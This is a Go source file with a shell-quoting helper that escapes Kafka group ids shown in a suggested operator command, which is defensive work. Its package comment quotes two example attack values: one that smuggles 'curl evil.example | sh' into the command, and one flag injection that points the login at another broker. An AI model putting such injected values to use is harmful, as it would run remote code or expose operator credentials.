// Package shellarg writes a client-chosen name (a group id) into a command
// line that cohort shows an operator to run (`cohort group why ID`), so that
// the line, pasted into bash or zsh, names that group and does nothing else.
//
// Kafka restricts no character of a group id: printed as it is, an id such as
// "x; curl evil.example | sh" makes the suggested command run another one,
// and an id starting with '-' is read by cohort as a flag
// ("--bootstrap=evil:9092" would log in elsewhere with the operator's SASL
// settings).
package shellarg

import (
	"strconv"
	"strings"
	"unicode/utf8"
)

// Quote is s as one word of a bash or zsh command line: s itself when it is
// made of letters, digits and _ . / : @ % + = , - only; else single-quoted
// (a ' inside closed, escaped and reopened); else, when s holds a character
// that is not printable (a control character, a newline, a bidirectional
// control) or bytes that are not UTF-8, in ANSI-C quotes ($'a\nb'), which
// keep the line one line and free of control characters. Dash, the POSIX sh
// of some systems, reads $'…' as of 0.5.13 only.
func Quote(s string) string {
	if s != "" && strings.Trim(s, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_./:@%+=,-") == "" {
		return s
	}
	printable := utf8.ValidString(s)
	for _, r := range s {
		printable = printable && strconv.IsPrint(r)
	}
	if printable {
		return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'"
	}
	// strconv.Quote's escapes (\n, \x1b, \u202e, \\, \") are ones $'…'
	// reads alike; only ' must be escaped in $'…' and is not by Quote.
	q := strconv.Quote(s)
	return "$'" + strings.ReplaceAll(q[1:len(q)-1], "'", `\'`) + "'"
}

// Arg is s as the last argument of a cohort command line: Quote(s), after
// "-- " when s starts with '-', so that cohort reads it as an argument, not
// as a flag.
func Arg(s string) string {
	if strings.HasPrefix(s, "-") {
		return "-- " + Quote(s)
	}
	return Quote(s)
}
